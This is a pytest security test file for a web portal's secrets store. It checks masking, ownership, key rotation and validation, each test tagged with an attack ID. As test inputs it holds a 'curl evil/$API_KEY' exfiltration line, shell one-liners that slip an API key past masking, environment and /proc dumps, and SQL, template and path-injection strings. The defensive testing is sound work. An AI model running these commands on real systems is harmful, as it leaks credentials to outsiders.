"""Attacks on secrets: on their values wherever they could lie, and on whose they are."""

from __future__ import annotations

import base64
import json
import logging
import sqlite3
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import pytest
from cryptography.fernet import Fernet
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy.orm import Session

from portal import queue
from portal.database import now, transaction
from portal.domain.drafts import TaskDraft
from portal.domain.errors import Conflict, Invalid, NotFound
from portal.domain.policy import Role
from portal.domain.states import State
from portal.models import Account, Run, Secret, Submission
from portal.services import accounts, export, logs, progress, secrets, submissions, tasks
from portal.services.dumps import writing
from portal.settings import WrongSetting, settings
from tests.conftest import PASSWORD, forget_settings
from tests.making import make_backend, make_job, submitted
from workers.execution import perform
from workers.runners import local
from workers.workspace import Workspace

VALUE = "p4ss w0rd/+ümlaut"
GOOD_KEY = base64.urlsafe_b64encode(bytes(range(32))).decode()
LINES = "-----BEGIN KEY-----\nMIIEvQIBADANBgkq\nhkiG9w0BAQEFAASC\n-----END KEY-----\n"


@pytest.fixture
def ann(session: Session) -> Account:
    with transaction(session):
        return accounts.create(session, "ann", PASSWORD, Role.ANALYST)


@pytest.fixture
def bob(session: Session) -> Account:
    with transaction(session):
        return accounts.create(session, "bob", PASSWORD, Role.ANALYST)


@pytest.fixture
def kept(session: Session, ann: Account) -> Secret:
    """A secret of Ann's."""
    return keep(session, ann)


def keep(session: Session, owner: Account, value: str = VALUE, name: str = "weather") -> Secret:
    with transaction(session):
        return secrets.make(session, owner, name, value)


def save(session: Session, author: Account | None, code: str = "true", **more: object) -> None:
    make_backend(session)
    draft = TaskDraft("t", "command", "here", code, secrets=(("API_KEY", "weather"),), **more)  # type: ignore[arg-type]
    with transaction(session):
        tasks.save(session, draft, author, tasks.named(session, "t"))


@pytest.fixture
def ordered(session: Session, kept: Secret, ann: Account) -> Callable[..., Submission]:
    """A submission of a command of Ann's that has the secret as API_KEY."""

    def order(code: str, **more: object) -> Submission:
        save(session, ann, code, **more)
        make_job(session, "job", [(1, "t")])
        return submitted(session, "job")

    return order


def signed_in_as(app: Flask, name: str) -> FlaskClient:
    client = app.test_client()
    assert client.post("/sign-in", data={"name": name, "password": PASSWORD}).status_code in (302, 303)
    return client


def printed(session: Session, submission: Submission, stream: str = "stdout") -> str:
    session.rollback()
    return logs.whole(session, submission.runs[0], stream).decode()


def everything_in(database: Path) -> str:
    with sqlite3.connect(database) as opened:
        return "\n".join(opened.iterdump())


def forms(value: str) -> list[str]:
    return [value, base64.b64encode(value.encode()).decode(), json.dumps(value)]


@pytest.mark.attack("SE-01")
@pytest.mark.parametrize("value", [VALUE, LINES])
def test_it_shows_no_value_on_any_page_or_in_any_answer(
    value: str, app: Flask, session: Session, ann: Account, data: Path
) -> None:
    client = signed_in_as(app, "ann")
    assert client.post("/secrets", data={"name": "weather", "value": value}).status_code == 303
    save(session, ann)
    refused = client.post("/secrets", data={"name": "weather", "value": value})
    edited = client.post("/secrets/weather", data={"value": value})
    answers = [refused, edited] + [
        client.get(path)
        for path in (
            "/secrets", "/secrets/weather", "/tasks", "/tasks/t", "/tasks/t/revisions/1", "/api/v1/tasks/t",
            "/api/v1/tasks", "/tasks.json", "/tasks.csv",
        )
    ]  # fmt: skip
    shown = [answer.text for answer in answers]

    assert refused.status_code == 422
    assert "weather" in client.get("/tasks/t").text
    told = "\n".join([*shown, export.text(session), repr(writing.dump(session)), everything_in(data / "portal.db")])
    assert [each for form in forms(value) for each in form.splitlines() if len(each) > 5 and each in told] == []
    assert '["API_KEY", "weather"]' in json.dumps(client.get("/api/v1/tasks/t").get_json())


@pytest.mark.attack("SE-02")
@pytest.mark.parametrize("how", ["page", "rest", "yaml"])
def test_it_refuses_a_task_that_names_somebody_elses_secret(
    how: str, app: Flask, session: Session, kept: Secret, bob: Account
) -> None:
    make_backend(session)
    client = signed_in_as(app, "bob")
    task = {"name": "mine", "language": "command", "backend": "here", "code": "echo $API_KEY"}
    if how == "page":
        row = {"variables-0-name": "API_KEY", "variables-0-secret": "weather"}
        answer = client.post("/tasks/new", data={**task, **row})
    elif how == "rest":
        answer = client.post(
            "/api/v1/tasks", json={**task, "secrets": [["API_KEY", "weather"]]}, auth=("bob", PASSWORD)
        )
    else:
        with pytest.raises(Invalid, match="You have no secret 'weather'"), transaction(session):
            tasks.save(session, TaskDraft(**task, secrets=(("API_KEY", "weather"),)), bob)
        return

    assert answer.status_code == 422
    assert "You have no secret" in answer.text
    assert tasks.named(session, "mine") is None


@pytest.mark.attack("SE-02")
def test_it_says_the_same_of_a_secret_that_is_not_there(session: Session, kept: Secret, bob: Account) -> None:
    said = []
    make_backend(session)
    for name in ("weather", "nothing"):
        with pytest.raises(Invalid) as refused, transaction(session):
            tasks.save(session, TaskDraft("x", "command", "here", "true", secrets=(("A", name),)), bob)
        said.append(str(refused.value).replace(name, "*"))

    assert said[0] == said[1]


@pytest.mark.attack("SE-03")
def test_it_refuses_other_code_from_somebody_else(session: Session, kept: Secret, ann: Account, bob: Account) -> None:
    save(session, ann)

    with pytest.raises(Invalid, match="You have no secret"):
        save(session, bob, "curl evil/$API_KEY")

    assert tasks.get(session, "t").current.code == "true"


@pytest.mark.attack("SE-03")
def test_it_lets_an_administrator_save_it(session: Session, kept: Secret, ann: Account, admin: Account) -> None:
    save(session, ann)
    save(session, admin, "echo 2")

    assert tasks.get(session, "t").current.number == 2


PRINTING = {
    "whole": 'echo "a $API_KEY b"',
    "in two pieces": 'printf %s "${API_KEY%????}"; sleep 1; printf "%s\\n" "${API_KEY#"${API_KEY%????}"}"',
    "byte by byte": "python3 -uc 'import os, sys; [sys.stdout.write(each) for each in os.environ[\"API_KEY\"]]'",
    "base64": 'printf %s "$API_KEY" | base64 -w0',
    "base64 of more": 'printf %s "user:$API_KEY:end" | base64 -w0',
    "base64 of still more": 'printf %s "xx$API_KEY" | base64 -w0',
    "json": "python3 -c 'import json, os; print(json.dumps(os.environ[\"API_KEY\"]))'",
    "in a url": "python3 -c 'import os, urllib.parse; print(urllib.parse.quote(os.environ[\"API_KEY\"]))'",
    "environment": "env",
    "as the log of a result": 'echo "$API_KEY"',
}


@pytest.mark.attack("SE-04")
@pytest.mark.parametrize("how", PRINTING)
def test_it_masks_what_a_program_prints(
    how: str, session: Session, ordered: Callable[..., Submission], work: Callable[[], None], data: Path
) -> None:
    submission = ordered(PRINTING[how], stdout=".out" if how.endswith("result") else "")

    work()

    log = printed(session, submission)
    assert "***" in log
    kept = everything_in(data / "portal.db")
    assert "p4ss" not in log and base64.b64encode(VALUE.encode()).decode()[:20] not in log
    assert VALUE.encode().hex().upper() not in kept.upper()


@pytest.mark.attack("SE-04")
def test_it_masks_every_line_of_a_key(session: Session, ann: Account, work: Callable[[], None]) -> None:
    keep(session, ann, LINES)
    save(session, ann, "echo $API_KEY; env >&2")
    make_job(session, "job", [(1, "t")])
    submission = submitted(session, "job")

    work()

    for stream in ("stdout", "stderr"):
        assert "***" in printed(session, submission, stream)
        assert not [line for line in LINES.splitlines() if line in printed(session, submission, stream)]


@pytest.mark.attack("SE-04")
def test_it_masks_the_same_after_another_worker_took_the_run_up_and_the_value_was_replaced(
    session: Session, ordered: Callable[..., Submission], ann: Account, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The first worker leaves amid the value; meanwhile it is replaced."""
    code = 'printf %s "${API_KEY%????}"; touch begun; until [ -e go ]; do sleep 0.05; done; '
    submission = ordered(code + 'printf "%s.\\n" "${API_KEY#"${API_KEY%????}"}"')
    with transaction(session):
        claim = progress.claim(session, [queue.EVERY], "one", local.HOST)
    assert claim is not None
    directory = Workspace.of(claim).directory
    perform(claim, ending=(directory / "begun").exists)
    with transaction(session):
        secrets.replace(session, ann, session.get_one(Secret, 1), "quite another one")
    with transaction(session):
        taken = progress.claim(session, [queue.EVERY], "two", local.HOST)
    assert taken is not None and taken.handle is not None
    (directory / "go").touch()

    perform(taken)

    assert printed(session, submission) == "***.\n"
    assert submission.state is State.COMPLETE
    assert "secrets" not in (submission.runs[0].handle or {})


@pytest.mark.attack("SE-05")
def test_it_gives_no_run_a_secret_that_was_made_anew(
    session: Session, ordered: Callable[..., Submission], ann: Account, bob: Account, work: Callable[[], None]
) -> None:
    submission = ordered('echo "$API_KEY"')
    with transaction(session):
        tasks.save(
            session, replace(tasks.draft_of(tasks.get(session, "t").current), secrets=()), ann, tasks.get(session, "t")
        )
    with transaction(session):
        secrets.delete(session, ann, secrets.get(session, ann, "weather"))
    keep(session, bob, "bob's own value")

    work()

    session.rollback()
    assert submission.state is State.ERROR
    assert "was made anew" in submission.runs[0].reason
    assert printed(session, submission) == ""


@pytest.mark.attack("SE-05")
def test_it_keeps_a_secret_that_a_task_names(session: Session, kept: Secret, ann: Account) -> None:
    save(session, ann)

    with pytest.raises(Conflict, match="used by t"), transaction(session):
        secrets.delete(session, ann, kept)


@pytest.mark.attack("SE-06")
@pytest.mark.parametrize("name", ["weather", "nothing"])
def test_it_hides_somebody_elses_secret(name: str, app: Flask, session: Session, kept: Secret, bob: Account) -> None:
    client = signed_in_as(app, "bob")
    before = kept.value

    answers = [
        client.get(f"/secrets/{name}"),
        client.post(f"/secrets/{name}", data={"value": "bob's value"}),
        client.post(f"/secrets/{name}/delete"),
    ]

    assert [answer.status_code for answer in answers] == [404, 404, 404]
    assert {answer.text.count("There is no such secret.") for answer in answers} == {1}
    assert "weather" not in client.get("/secrets").text
    session.expire_all()
    assert session.get_one(Secret, kept.id).value == before


@pytest.mark.attack("SE-06")
@pytest.mark.parametrize("path", ["/secrets", "/secrets/weather", "/secrets/weather/delete"])
def test_it_has_no_secrets_for_submitters_and_strangers(path: str, app: Flask, session: Session, kept: Secret) -> None:
    with transaction(session):
        accounts.create(session, "sue", PASSWORD, Role.SUBMITTER)

    assert signed_in_as(app, "sue").post(path, data={"name": "x", "value": "abcdefgh"}).status_code == 403
    assert app.test_client().post(path, data={"name": "x", "value": "abcdefgh"}).status_code == 302
    session.expire_all()
    assert session.get_one(Secret, kept.id) and session.get(Secret, kept.id + 1) is None


@pytest.mark.attack("SE-07")
def test_it_keeps_what_no_other_key_opens(
    kept: Secret, data: Path, session: Session, monkeypatch: pytest.MonkeyPatch
) -> None:
    assert (data / "secrets_key").stat().st_mode & 0o077 == 0
    (data / "secrets_key").unlink()
    monkeypatch.setenv("PORTAL_SECRETS_KEY", Fernet.generate_key().decode())
    settings.cache_clear()

    with pytest.raises(Exception, match="PORTAL_SECRETS_KEY"):
        secrets.opened({"A": kept.value})
    assert VALUE not in everything_in(data / "portal.db")


@pytest.mark.attack("SE-07")
@pytest.mark.parametrize("key", ["planted", "x" * 44, f"{GOOD_KEY},planted", "changeme-planted"])
def test_it_does_not_start_with_a_weak_key_and_does_not_repeat_it(key: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PORTAL_SECRETS_KEY", key)
    settings.cache_clear()

    with pytest.raises(WrongSetting, match="PORTAL_SECRETS_KEY") as refused:
        settings()

    assert "planted" not in str(refused.value)
    settings.cache_clear()


@pytest.mark.attack("SE-07")
def test_it_needs_an_old_key_no_more_after_a_rotation(
    kept: Secret, data: Path, session: Session, monkeypatch: pytest.MonkeyPatch
) -> None:
    stolen, new = (data / "secrets_key").read_text(), Fernet.generate_key().decode()
    monkeypatch.setenv("PORTAL_SECRETS_KEY", new)
    settings.cache_clear()

    with transaction(session):
        assert secrets.rotate(session) == 1
    (data / "secrets_key").unlink()

    session.expire_all()
    assert secrets.opened({"A": kept.value}) == {"A": VALUE}
    with pytest.raises(Exception):  # noqa: B017
        Fernet(stolen).decrypt(kept.value)


@pytest.mark.attack("SE-08")
def test_it_writes_the_value_nowhere_where_a_run_happens(
    session: Session, ordered: Callable[..., Submission], data: Path
) -> None:
    ordered('touch begun; until [ -e go ]; do sleep 0.05; done; test -n "$API_KEY"')
    with transaction(session):
        claim = progress.claim(session, [queue.EVERY], "one", local.HOST)
    assert claim is not None
    space = Workspace.of(claim)
    perform(claim, ending=(space.directory / "begun").exists)
    launcher = json.loads((space.space / "launched.json").read_text())["pid"]
    child = int(Path(f"/proc/{launcher}/task/{launcher}/children").read_text().split()[0])
    files = [file for file in data.rglob("*") if file.is_file()]

    found = [file for file in files if VALUE.encode() in file.read_bytes()]
    words = [Path(f"/proc/{launcher}/{what}").read_bytes() for what in ("environ", "cmdline")]
    argument = Path(f"/proc/{child}/cmdline").read_bytes()
    given = any(VALUE.encode() in environment_of(pid) for pid in family(launcher))
    (space.directory / "go").touch()
    with transaction(session):
        taken = progress.claim(session, [queue.EVERY], "two", local.HOST)
    assert taken is not None
    perform(taken)

    assert found == [] and not [each for each in (*words, argument) if VALUE.encode() in each]
    assert given, "the run itself has it"
    assert session.get_one(Run, 1).state is State.COMPLETE
    assert [file for file in data.rglob("*") if file.is_file() and VALUE.encode() in file.read_bytes()] == []


def environment_of(pid: int) -> bytes:
    try:
        return Path(f"/proc/{pid}/environ").read_bytes()
    except OSError:
        return b""


def family(pid: int) -> list[int]:
    """All that a process started, and what that started."""
    children = [int(each) for each in Path(f"/proc/{pid}/task/{pid}/children").read_text().split()]
    return children + [further for each in children for further in family(each)]


@pytest.mark.attack("SE-09")
def test_it_lets_a_run_wait_where_the_key_is_missing(
    session: Session, ordered: Callable[..., Submission], data: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    submission = ordered('echo "$API_KEY"')
    key = (data / "secrets_key").read_text()
    (data / "secrets_key").unlink()
    settings.cache_clear()

    attempt()
    session.rollback()
    assert submission.runs[0].state is State.QUEUED
    assert "a key that this machine does not have" in submission.runs[0].reason
    assert "Traceback" not in submission.runs[0].reason

    monkeypatch.setenv("PORTAL_SECRETS_KEY", key)
    forget_settings()
    with transaction(session):
        submission.runs[0].due = now()
    attempt()
    session.rollback()
    assert (submission.state, printed(session, submission)) == (State.COMPLETE, "***\n")


def attempt() -> None:
    with transaction() as claiming:
        claim = progress.claim(claiming, [queue.EVERY], "one", local.HOST)
    assert claim is not None
    perform(claim)


@pytest.mark.attack("SE-09")
def test_it_fails_a_run_whose_secret_is_gone_and_names_it(
    session: Session, ordered: Callable[..., Submission], work: Callable[[], None]
) -> None:
    submission = ordered('echo "$API_KEY"')
    with transaction(session):
        session.delete(session.get_one(Secret, 1))

    work()

    session.rollback()
    assert submission.state is State.ERROR
    assert submission.runs[0].reason.endswith(
        "The secret weather, which its variable API_KEY needs, is not there any more."
    )


@pytest.mark.attack("SE-09")
def test_it_gives_a_tried_again_run_its_secret_again(
    session: Session, ordered: Callable[..., Submission], work: Callable[[], None]
) -> None:
    submission = ordered('test "$API_KEY" = "' + VALUE + '"')
    with transaction(session):
        claim = progress.claim(session, [queue.EVERY], "one", local.HOST)
    assert claim is not None
    with transaction(session):
        progress.give_back(session, claim, "it was lost")
        session.get_one(Run, 1).due = now()

    work()

    session.rollback()
    assert submission.state is State.COMPLETE


@pytest.mark.attack("SE-10")
@pytest.mark.parametrize(
    "name", ["", "a b", "../x", "a/b", "<script>", "x\0", "ü", "a" * 121, "-rf", "{{7*7}}", "\ud800"]
)
def test_it_refuses_an_odd_name(name: str, app: Flask, session: Session, ann: Account) -> None:
    with pytest.raises(Invalid) as refused, transaction(session):
        secrets.make(session, ann, name, VALUE)

    assert set(refused.value.fields) == {"name"}


@pytest.mark.attack("SE-10")
@pytest.mark.parametrize("value", ["", "abc7y", "a" * 10_001, "null\0inside", "half \ud800 of one"])
def test_it_refuses_an_odd_value_without_repeating_it(value: str, session: Session, ann: Account) -> None:
    with pytest.raises(Invalid) as refused, transaction(session):
        secrets.make(session, ann, "name", value)

    assert set(refused.value.fields) == {"value"}
    assert not value or value not in str(refused.value)


@pytest.mark.attack("SE-10")
@pytest.mark.parametrize("name", ["LD_PRELOAD", "PATH", "BASH_ENV", "PYTHONSTARTUP", "A=B", "X\n"])
def test_it_lets_no_secret_be_a_variable_of_the_portals_own(
    name: str, session: Session, kept: Secret, ann: Account
) -> None:
    make_backend(session)
    with pytest.raises(Invalid) as refused, transaction(session):
        tasks.save(session, TaskDraft("x", "command", "here", "true", secrets=((name, "weather"),)), ann)

    assert set(refused.value.fields) == {"variables-0-name"}


PLANTED = {
    "SECRET_KEY": "planted-1-" + "x" * 32,
    "MAIL_PASSWORD": "planted-2-mail",
    "MAIL_USERNAME": "planted-3-mail",
    "PORTAL_ADMIN_PASSWORD": "planted-4-admin",
    "PORTAL_SECRETS_KEY": Fernet.generate_key().decode(),
    "BROKER_URL": "redis://:planted-5-broker@127.0.0.1:1/0",
    "SOMETHING_ELSE": "planted-6-else",
}


@pytest.mark.attack("LG-02")
def test_it_leaks_no_planted_secret(
    data: Path,
    monkeypatch: pytest.MonkeyPatch,
    session: Session,
    caplog: pytest.LogCaptureFixture,
    request: pytest.FixtureRequest,
) -> None:
    caplog.set_level(logging.DEBUG)
    for name, value in PLANTED.items():
        monkeypatch.setenv(name, value)
    forget_settings()
    ann = request.getfixturevalue("ann")
    keep(session, ann)
    save(session, ann, "env; cat /proc/$$/cmdline; ps -ewwo args; ls -la; exit 3")
    make_job(session, "job", [(1, "t")])
    submission = submitted(session, "job")
    request.getfixturevalue("work")()
    client = signed_in_as(request.getfixturevalue("app"), "ann")
    for name in ("get", "seen"):
        monkeypatch.setattr(submissions, name, broken)
    answers = [client.get(path).text for path in (f"/runs/{submission.uuid}", f"/api/v1/submissions/{submission.uuid}")]

    told = "\n".join([*answers, caplog.text, printed(session, submission), printed(session, submission, "stderr")])
    planted = [*PLANTED.values(), VALUE, PASSWORD, ann.password_hash, ann.session_key]
    assert told.count("RuntimeError: the database fell over") == len(answers)
    assert [value for value in planted if value in told] == []


def broken(*_: object) -> None:
    raise RuntimeError("the database fell over")


@pytest.mark.attack("SE-06")
def test_it_finds_nobodys_secret_by_an_odd_name(session: Session, kept: Secret, bob: Account) -> None:
    for name in ("' OR 1=1 --", "%", "_", "weather\0", "WEATHER", "weather "):
        with pytest.raises(NotFound):
            secrets.get(session, bob, name)
